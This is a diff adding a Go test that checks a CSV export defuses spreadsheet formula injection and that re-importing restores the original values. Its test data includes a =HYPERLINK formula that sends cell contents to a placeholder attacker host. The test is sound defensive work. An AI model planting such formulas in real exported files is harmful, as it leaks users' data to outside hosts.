@@ -3,6 +3,7 @@ package sqlstore_test
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"sort"
@@ -399,6 +400,58 @@ func TestCSVImportExport(t *testing.T) {
 		lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
 		if len(lines) != 4 || !strings.HasPrefix(lines[0], "uid,component_type") || !strings.Contains(buf.String(), `"{""color"":""red""}"`) {
 			t.Fatalf("export:\n%s", buf.String())
+		}
+	})
+}
+
+// TestCSVFormulaGuard checks that an export does not hand a spreadsheet a
+// formula (a location typed as =HYPERLINK(...)), and that importing the
+// exported file gives the same values back.
+func TestCSVFormulaGuard(t *testing.T) {
+	t.Parallel()
+	sqltest.Each(t, func(t *testing.T, db *sqlstore.DB) {
+		ctx := context.Background()
+		svc := newService(db)
+		formula := `=HYPERLINK("http://attacker.example/?"&A1,"click")`
+		in := "uid,status,location\n" + `PAD-V0100-L8-00001,available,"` + strings.ReplaceAll(formula, `"`, `""`) + "\"\n" +
+			"PAD-V0100-L8-00002,available,-40 shelf\n"
+		if rep, err := svc.ImportCSV(ctx, strings.NewReader(in), false); err != nil || rep.Imported != 2 {
+			t.Fatalf("import %+v %v", rep, err)
+		}
+		var buf bytes.Buffer
+		if err := svc.ExportCSV(ctx, inventory.ItemFilter{LotNumber: "L8"}, &buf); err != nil {
+			t.Fatal(err)
+		}
+		recs, err := csv.NewReader(&buf).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, rec := range recs[1:] {
+			for _, cell := range rec {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Fatalf("exported cell %q opens as a formula", cell)
+				}
+			}
+		}
+		// The same rows under other uids import to the same locations.
+		var again bytes.Buffer
+		w := csv.NewWriter(&again)
+		for i, rec := range recs {
+			if i > 0 {
+				rec[0] = strings.Replace(rec[0], "-L8-", "-L7-", 1)
+				rec[3] = "L7"
+			}
+			_ = w.Write(rec)
+		}
+		w.Flush()
+		if rep, err := svc.ImportCSV(ctx, &again, false); err != nil || rep.Imported != 2 {
+			t.Fatalf("re-import %+v %v", rep, err)
+		}
+		for uid, want := range map[string]string{"PAD-V0100-L7-00001": formula, "PAD-V0100-L7-00002": "-40 shelf"} {
+			it, err := svc.Get(ctx, uid)
+			if err != nil || it.Location != want {
+				t.Fatalf("%s: location %q, want %q (%v)", uid, it.Location, want, err)
+			}
 		}
 	})
 }
